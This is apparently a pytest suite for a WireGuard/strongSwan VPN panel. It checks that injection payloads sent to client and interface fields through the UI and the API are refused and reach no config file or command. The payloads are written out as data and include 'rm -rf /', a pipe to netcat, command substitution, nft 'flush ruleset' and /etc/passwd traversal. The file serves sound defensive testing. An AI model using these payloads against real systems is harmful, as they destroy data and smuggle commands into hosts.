"""Names and fields built to break into wg, swanctl, nft and the shell, sent through the pages and the API.

Each one must be refused with a message naming the field, and nothing may
move: the database, every config file on disk (byte for byte), the modelled
live system, and no command may ever see the payload.  The panel runs with
live apply on, against the fake system, so an accepted change would show.
"""

import hashlib
import json
import re
from pathlib import Path

import pytest

from puqvpn.db import connect
from puqvpn.services import apply, clients, interfaces, system, tokens, wireguard

from .conftest import csrf_token
from .fake_system import FakeSystem
from .routes import login_as, make_app

# (payload, what it tries). Every one is refused by every field it is sent to.
PAYLOADS = [
    ("pwn\n[Peer]\nPublicKey = AAAA", "a new wg section"),
    ("pwn\nAllowedIPs = 0.0.0.0/0", "an extra wg line"),
    ("pwn\r\nPostUp = touch /tmp/pwned", "a wg-quick hook after CRLF"),
    ("pwn\x00tail", "a NUL byte cutting the value"),
    ('pwn" ; secret = "x', "breaking out of a swanctl quoted string"),
    ("pwn' || true '", "breaking out of single quotes"),
    ("pwn } ; flush ruleset ; {", "closing an nft block"),
    ("pwn;reboot", "a shell command separator"),
    ("$(touch /tmp/pwned)", "shell command substitution"),
    ("`touch /tmp/pwned`", "backtick substitution"),
    ("pwn | nc 192.0.2.1 9", "a pipe"),
    ("pwn && rm -rf /", "a command chain"),
    ("-o pwn", "an option for the tool"),
    ("--help", "an option for the tool"),
    ("../../etc/passwd", "a path traversal"),
    ("pwn # comment", "a trailing comment"),
    ("p" * 5000, "an overlong value"),
    ("\uff50\uff57\uff4e", "full-width look-alike letters"),
    ("p\u0455n", "a Cyrillic look-alike letter"),
    ("pw\u200bn", "a zero-width space"),
    ("pwn\u2028x", "a Unicode line separator"),
    ("pwn\\n", "an escaped newline"),
    ("pwn\t0.0.0.0/0", "a tab"),
    ("{pwn}", "braces"),
]
# An IKEv2 password may hold ; $ ( ) | & { } (it is only ever a quoted swanctl value, never a shell word),
# so the password field gets the payloads that no password may hold.
PASSWORD_PAYLOADS = [p for p in PAYLOADS if re.search(r"[\s\x00\"'`\\\u0080-\uffff]", p[0]) or len(p[0]) > 128]

CLIENT_FIELDS = ("name", "username", "password", "ip", "ip6", "expires_at", "down_mbit", "up_mbit", "quota_gb")
INTERFACE_FIELDS = ("address", "address6", "listen_port", "endpoint", "ext_device", "dns", "mtu", "keepalive",
                    "allowed_ips")


# The API spells two fields out.
API_NAMES = {"down_mbit": "download_mbit", "up_mbit": "upload_mbit"}


def payloads_for(field):
    return PASSWORD_PAYLOADS if field == "password" else PAYLOADS


def file_digests(*folders):
    found = {}
    for folder in folders:
        for path in sorted(Path(folder).rglob("*")):
            if path.is_file():
                found[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


def db_rows(db):
    return {table: [tuple(r) for r in db.execute(f"SELECT * FROM {table} ORDER BY rowid")]
            for table in ("interfaces", "clients", "users", "api_tokens", "options")}


def build_panel(tmp_path, monkeypatch):
    fake = FakeSystem()
    monkeypatch.setattr(system, "runner_from_settings", lambda settings: fake.runner)
    monkeypatch.setattr(apply, "BACKENDS", ("wireguard", "firewall"))
    wireguard.forget_backend()
    app = make_app(tmp_path, SYSTEM_APPLY="1")
    settings = app.config["PUQVPN"]
    db = connect(settings["DATABASE"])
    from puqvpn.services.system import Context
    ctx = Context(db, settings, fake.runner)
    wg0 = interfaces.create(db, {"name": "wg0", "address": "10.8.0.1/24", "listen_port": "51820",
                                 "endpoint": "vpn.example.com", "dns": "1.1.1.1", "allowed_ips": "0.0.0.0/0, ::/0",
                                 "address6": "fd42:42::1/64"})
    alice = clients.create(db, {"interface": wg0["id"], "name": "alice"})
    apply.reconcile(ctx)
    wireguard.flush_config_writes()
    try:
        from puqvpn.services import strongswan
        strongswan.write_files(ctx)
    except Exception:   # strongSwan's files are an extra when the module can write them alone
        pass
    token = tokens.create(db, "injection-test", "admin")[1]
    admin_id = _admin(db)
    before = {"files": file_digests(settings["WG_CONF_DIR"], settings["SWANCTL_DIR"]),
              "rows": db_rows(db), "live": json.dumps([fake.links, fake.wg, fake.tables], sort_keys=True,
                                                       default=str)}
    assert before["files"], "the fixture should have written config files to compare"
    fake.runner.calls.clear()
    client = app.test_client()
    login_as(client, admin_id)
    yield {"app": app, "db": db, "fake": fake, "client": client, "token": token, "wg0": wg0, "alice": alice,
           "before": before, "settings": settings}
    wireguard.flush_config_writes()
    db.conn.close()


@pytest.fixture(scope="module")
def panel(tmp_path_factory):
    # One panel for all the refusals: each case checks that nothing moved since it was set up.
    with pytest.MonkeyPatch.context() as monkeypatch:
        yield from build_panel(tmp_path_factory.mktemp("injection"), monkeypatch)


@pytest.fixture
def fresh_panel(tmp_path, monkeypatch):
    yield from build_panel(tmp_path, monkeypatch)


def _admin(db):
    db.execute("INSERT INTO users (username, password_hash, role, created_at) VALUES ('admin', 'x', 'admin', 'now')")
    return db.execute("SELECT id FROM users WHERE username = 'admin'").fetchone()[0]


def assert_nothing_moved(panel, payload):
    wireguard.flush_config_writes()
    settings, fake = panel["settings"], panel["fake"]
    assert file_digests(settings["WG_CONF_DIR"], settings["SWANCTL_DIR"]) == panel["before"]["files"]
    rows = db_rows(panel["db"])
    rows["api_tokens"] = [row[:7] + row[8:] for row in rows["api_tokens"]]   # last_used_at moves, rightly
    before_rows = dict(panel["before"]["rows"])
    before_rows["api_tokens"] = [row[:7] + row[8:] for row in before_rows["api_tokens"]]
    assert rows == before_rows
    assert json.dumps([fake.links, fake.wg, fake.tables], sort_keys=True, default=str) == panel["before"]["live"]
    core = payload.replace("\x00", "")[:12]
    for argv, stdin in fake.runner.calls:
        assert core not in " ".join(argv) and core not in (stdin or ""), f"a command saw {payload!r}: {argv}"


def ui_client_form(panel, field, payload):
    values = {"interface": str(panel["wg0"]["id"]), "name": "fresh", "username": "", "password": "", "ip": "",
              "ip6": "", "down_mbit": "0", "up_mbit": "0", "expires_at": "", "quota_gb": "0", "quota_reset_day": "1",
              "note": ""}
    values[field] = payload
    return values


def ui_interface_form(panel, field, payload):
    values = {"name": "wg1", "label": "", "address": "10.9.0.1/24", "address6": "", "listen_port": "51821",
              "endpoint": "vpn.example.com", "ext_device": "", "dns": "1.1.1.1", "mtu": "1420", "keepalive": "25",
              "allowed_ips": "0.0.0.0/0", "default_down_mbit": "0", "default_up_mbit": "0", "enabled": "on"}
    values[field] = payload
    return values


def check_ui_refusal(response, field, payload):
    page = response.get_data(as_text=True)
    assert response.status_code == 422, f"{field}={payload!r}: the page answered {response.status_code}"
    message = re.search(rf'<small class="field-error" id="e-{field}">([^<]+)</small>', page)
    assert message and len(message.group(1)) > 5, f"{field}={payload!r}: no message next to the field"


def check_api_refusal(response, field, payload):
    assert response.status_code in (400, 422), f"{field}={payload!r}: the API answered {response.status_code}"
    body = response.get_json()
    assert body["message"], "a refusal says why"
    assert field in body.get("fields", {}) or field in body["message"], \
        f"{field}={payload!r}: the answer does not name the field: {body}"


CASES = [(field, payload, why) for field in CLIENT_FIELDS for payload, why in payloads_for(field)]
IFACE_CASES = [(field, payload, why) for field in INTERFACE_FIELDS for payload, why in payloads_for(field)]


def _id(case):
    field, payload, why = case
    return f"{field}-{why.replace(' ', '_')}"


@pytest.mark.parametrize("field, payload, why", CASES, ids=[_id(c) for c in CASES])
def test_client_fields_refuse_injection_through_ui_and_api(panel, field, payload, why):
    client, token = panel["client"], csrf_token(panel["client"])
    # The page: a new client and an edit of alice.
    response = client.post("/clients/new", data={**ui_client_form(panel, field, payload), "csrf_token": token})
    check_ui_refusal(response, field, payload)
    edit = ui_client_form(panel, field, payload)
    edit.update({"name": "alice", "ip": "10.8.0.2"} if field not in ("name", "ip") else {})
    if field != "name":
        edit.setdefault("name", "alice")
    response = client.post(f"/clients/{panel['alice']['id']}/edit", data={**edit, "csrf_token": token})
    check_ui_refusal(response, field, payload)
    # The API: create and patch.
    bearer = {"Authorization": f"Bearer {panel['token']}"}
    api_field = API_NAMES.get(field, field)
    response = client.post("/api/v1/clients", json={"interface": "wg0", "name": "fresh", api_field: payload},
                           headers=bearer)
    check_api_refusal(response, api_field, payload)
    response = client.patch("/api/v1/clients/alice", json={api_field: payload}, headers=bearer)
    check_api_refusal(response, api_field, payload)
    assert_nothing_moved(panel, payload)


@pytest.mark.parametrize("field, payload, why", IFACE_CASES, ids=[_id(c) for c in IFACE_CASES])
def test_interface_fields_refuse_injection_through_ui_and_api(panel, field, payload, why):
    client, token = panel["client"], csrf_token(panel["client"])
    response = client.post("/interfaces/new", data={**ui_interface_form(panel, field, payload), "csrf_token": token})
    check_ui_refusal(response, field, payload)
    edit = ui_interface_form(panel, field, payload)
    edit.update(name="wg0", address="10.8.0.1/24" if field != "address" else payload,
                listen_port="51820" if field != "listen_port" else payload)
    response = client.post(f"/interfaces/{panel['wg0']['id']}/edit", data={**edit, "csrf_token": token})
    check_ui_refusal(response, field, payload)
    bearer = {"Authorization": f"Bearer {panel['token']}"}
    create = {"name": "wg1", "address": "10.9.0.1/24", "listen_port": 51821, "endpoint": "vpn.example.com",
              field: payload}
    check_api_refusal(client.post("/api/v1/interfaces", json=create, headers=bearer), field, payload)
    check_api_refusal(client.patch("/api/v1/interfaces/wg0", json={field: payload}, headers=bearer), field, payload)
    assert_nothing_moved(panel, payload)


@pytest.mark.parametrize("payload, why", PAYLOADS[:12], ids=[why.replace(" ", "_") for _p, why in PAYLOADS[:12]])
def test_an_interface_name_never_reaches_a_command(panel, payload, why):
    client = panel["client"]
    response = client.post("/interfaces/new", data={**ui_interface_form(panel, "name", payload),
                                                    "csrf_token": csrf_token(client)})
    check_ui_refusal(response, "name", payload)
    response = client.post("/api/v1/interfaces", headers={"Authorization": f"Bearer {panel['token']}"},
                           json={"name": payload, "address": "10.9.0.1/24", "listen_port": 51821,
                                 "endpoint": "vpn.example.com"})
    check_api_refusal(response, "name", payload)
    assert_nothing_moved(panel, payload)


def test_free_text_is_kept_but_never_reaches_a_config_or_a_command(fresh_panel):
    # A note is for people: any text is fine, and it stays in the database.
    panel = fresh_panel
    client = panel["client"]
    note = "$(touch /tmp/pwned)\n[Peer]\nAllowedIPs = 0.0.0.0/0 ; flush ruleset"
    bearer = {"Authorization": f"Bearer {panel['token']}"}
    response = client.patch("/api/v1/clients/alice", json={"note": note}, headers=bearer)
    assert response.status_code == 200
    assert clients.get(panel["db"], "alice")["note"] == note.strip()
    wireguard.flush_config_writes()
    settings = panel["settings"]
    for path in Path(settings["WG_CONF_DIR"]).rglob("*"):
        if path.is_file():
            assert "touch" not in path.read_text()
    for argv, stdin in panel["fake"].runner.calls:
        assert "touch" not in " ".join(argv) and "touch" not in (stdin or "")


def test_the_figures(capsys):
    total = 4 * len(CASES) + 4 * len(IFACE_CASES) + 2 * 12
    print(f"\ninjection: {len(PAYLOADS)} payloads, {len(CLIENT_FIELDS)} client and {len(INTERFACE_FIELDS)} "
          f"interface fields, {total} refused requests (UI and API)")
    assert total > 500
